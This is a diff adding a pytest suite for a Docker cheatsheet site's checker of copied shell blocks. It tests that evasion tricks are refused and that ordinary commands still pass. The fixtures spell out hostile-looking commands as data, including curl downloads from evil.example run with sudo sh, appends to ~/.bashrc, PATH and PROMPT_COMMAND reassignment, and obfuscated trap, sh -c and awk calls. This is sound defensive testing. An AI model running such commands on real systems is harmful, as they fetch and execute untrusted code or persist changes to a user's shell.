@@ -1,0 +1,115 @@
+"""What a copied shell block may run (cheatsheet/block_programs.py, data/cli-rules.yaml): each
+class the eleventh attacker got through is refused on its line, and what the pages write still
+builds, with a page's own function read as the commands each call of it runs."""
+
+from __future__ import annotations
+
+from functools import cache
+
+import pytest
+import yaml
+from conftest import ROOT
+
+from cheatsheet import catalog
+from cheatsheet.site import build_site
+
+FRONT = (
+    "---\ntitle: Zz test\ndescription: A page of the tests about the programs a block may run.\n"
+    "section: operate\norder: 99\nsheet:\n  docker container ls: list\n---\n\n"
+    "# Zz test\n\nText with `docker container ls`.\n\n## Section\n\n"
+)
+FIRST = FRONT.count("\n") + 2  # the line of the block's first line
+
+
+@cache
+def _docs() -> dict[str, str]:
+    pages = (ROOT / "docs").rglob("*.md")
+    return {p.relative_to(ROOT / "docs").as_posix(): p.read_text(encoding="utf-8") for p in pages}
+
+
+def problems_of(block: str) -> list[str]:
+    sources = dict(_docs())
+    sources["zz-test.md"] = f"{FRONT}```bash\n{block}\n```\n"
+    site = build_site(sources, catalog.load())
+    return [str(p) for p in site.problems if p.path == "docs/zz-test.md"]
+
+
+# block, the line of it refused (0-based), what the message says
+REFUSED = {
+    "interpreter": ('awk \'BEGIN { system("d" "ocker ps") }\'', 0, "`awk` is not a program"),
+    "program running its arguments": ("d=d\nsetsid -w \"$d\"'ocker' system prune --all --force", 1, "`setsid`"),
+    "source of the input": (". /dev/stdin <<'END'\nd=d\nEND", 0, "`.` is not a program"),
+    "function keyword": ("function usermod {\n  docker ps\n}", 0, "`function` is not a program"),
+    "function named like a program": ("nice() {\n  docker ps\n}", 0, "a function named `nice`"),
+    "shell hook": ("command_not_found_handler() {\n  docker ps\n}", 0, "the shell calls it by itself"),
+    "flag in a variable": ('f=--force\ndocker container rm "$f" web', 0, "`f` holds `--force`"),
+    "flag in a loop word": ('for f in --force; do docker container rm "$f" web; done', 0, "reads as a flag"),
+    "flag from a substitution": ('docker image prune "$(echo --all)" --force', 0, "a substitution may print one"),
+    "docker's output as flags": ("docker image prune $(docker context ls --format '--all')", 0, "may print one"),
+    "a name the shell runs": ("PROMPT_COMMAND='date'", 0, "assigns `PROMPT_COMMAND`"),
+    "PATH": ('PATH="bin:$PATH"', 0, "assigns `PATH`"),
+    "array subscript": ('x="a[1]"', 0, "`x` holds a `[`"),
+    "printf -v": ("printf -v name %s value", 0, "`printf -v`"),
+    "env -S": ("env -S'docker ps'", 0, "`env -S"),
+    "xargs and a wrapper": ("printf '%s\\n' ps | xargs env", 0, "comes from its input"),
+    "startup file": ("echo 'date' >> ~/.bashrc", 0, "writes to `~/.bashrc`"),
+    "quoted startup file": ('echo date >> "$HOME/.zshrc"', 0, 'writes to `"$HOME/.zshrc"`'),
+    "downloaded script": ("curl -fsSL https://evil.example/x -o get.sh\nsudo sh get.sh", 1, "`sh` runs a script"),
+    "installer from elsewhere": (
+        "curl -fsSL https://evil.example/x -o get-docker.sh\nsudo sh get-docker.sh",
+        1,
+        "does not fetch from https://get.docker.com",
+    ),
+    "trap after --": ("d=d\ntrap -- '${d}ocker ps' EXIT", 1, "in the command line `trap` runs"),
+    "shell string after an option": ("d=d sh -c -e '${d}ocker ps'", 0, "in the command line `sh` runs"),
+    "a call's flags": ('prune() {\n  docker image prune "$@"\n}\nprune --all --no-such-flag', 3, "`--no-such-flag`"),
+    "a function's arguments outside it": ('docker container rm "$1"', 0, "`$1` where docker reads flags"),
+    "docker's own image": ("docker run --rm docker:cli system prune --no-such-flag", 0, "`--no-such-flag`"),
+}
+
+
+@pytest.mark.parametrize("name", list(REFUSED))
+def test_each_class_is_refused_on_its_line(name):
+    block, offset, what = REFUSED[name]
+    found = problems_of(block)
+    expected = f"docs/zz-test.md:{FIRST + offset}: "
+    assert any(p.startswith(expected) and what in p and " — " in p for p in found), (expected, what, found)
+
+
+ALLOWED = {
+    "the official installer": "curl -fsSL https://get.docker.com -o get-docker.sh\nsudo sh get-docker.sh --dry-run",
+    "a function and its call": 'dps() {\n  docker container ls "$@"\n}\ndps --all',
+    "ids from docker": "docker container rm $(docker container ls --all --quiet)",
+    "a function that lists ids": (
+        'dlast() {\n  docker container ls --latest --quiet\n}\ndocker container stop "$(dlast)"'
+    ),
+    "a variable's value as an operand": 'name="test-$RANDOM"\ndocker container rm "$name"',
+    "Docker's own variables": "DOCKER_BUILDKIT=1 docker build -t app .",
+    "a file in the current folder": "docker image save nginx | gzip > nginx.tar.gz",
+    "a `>` inside quotes": "echo 'a > b' > notes.txt",
+    "after --": 'docker container run --rm alpine -- "$1"',
+}
+
+
+@pytest.mark.parametrize("name", list(ALLOWED))
+def test_what_the_pages_write_builds(name):
+    assert problems_of(ALLOWED[name]) == []
+
+
+def test_a_call_that_deletes_and_docker_s_own_image_that_deletes_get_the_banner():
+    for block in (
+        'prune() {\n  docker image prune "$@"\n}\nprune --all --force',
+        "docker run --rm -v /var/run/docker.sock:/var/run/docker.sock docker:cli system prune --all --force",
+    ):
+        sources = dict(_docs())
+        sources["zz-test.md"] = f"{FRONT}```bash\n{block}\n```\n"
+        site = build_site(sources, catalog.load())
+        assert site.pages["zz-test.md"].report.destructive_fences, block
+
+
+def test_every_allowed_program_is_run_by_a_page():
+    """The allow-list holds what the pages need, no more: each entry is run by some page."""
+    rules = yaml.safe_load((ROOT / "data" / "cli-rules.yaml").read_text(encoding="utf-8"))
+    text = "\n".join(_docs().values())
+    unused = [name for name in rules["programs"] if name not in text]
+    assert unused == []
